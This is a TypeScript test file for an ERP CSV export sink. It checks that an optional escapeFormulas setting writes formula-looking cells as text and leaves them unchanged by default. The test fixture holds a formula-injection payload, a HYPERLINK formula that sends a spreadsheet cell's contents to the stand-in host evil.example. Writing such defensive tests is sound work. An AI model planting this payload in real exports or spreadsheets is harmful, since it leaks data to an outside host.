/**
 * The CSV file sink can write cells that a spreadsheet would run as formulas as text
 * (`csv.escapeFormulas: true`); off by default, since an ERP import reads the file, not a person
 * (issue 42, finding 17).
 */
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { createSink, fileSinkSchema } from '../../src/erp/index.js';
import { silentLogger } from '../../src/log.js';

let root: string;
beforeEach(() => {
  root = mkdtempSync(path.join(tmpdir(), 'erp-sink-formulas-'));
});
afterEach(() => rmSync(root, { recursive: true, force: true }));

const records = [{ no: 'A-1', customer: '=HYPERLINK("http://evil.example/?"&A1,"Müller")', total: '-12.50' }];

async function written(csv: Record<string, unknown>): Promise<string> {
  const cfg = fileSinkSchema.parse({ folder: 'outbox', format: 'csv', csv });
  const sink = await createSink({ kind: 'files', folder: root }, cfg, { logger: silentLogger, baseDir: root });
  await sink.write({ id: 'b1', records });
  return readFileSync(path.join(root, 'outbox', 'b1.csv'), 'utf8');
}

describe('the CSV file sink and formulas', () => {
  it('writes a formula-looking cell as text with csv.escapeFormulas: true, negative numbers unchanged', async () => {
    expect(await written({ escapeFormulas: true })).toBe('no,customer,total\r\nA-1,"\'=HYPERLINK(""http://evil.example/?""&A1,""Müller"")",-12.50\r\n');
  });

  it('writes cells as they are by default', async () => {
    expect(await written({})).toBe('no,customer,total\r\nA-1,"=HYPERLINK(""http://evil.example/?""&A1,""Müller"")",-12.50\r\n');
  });
});
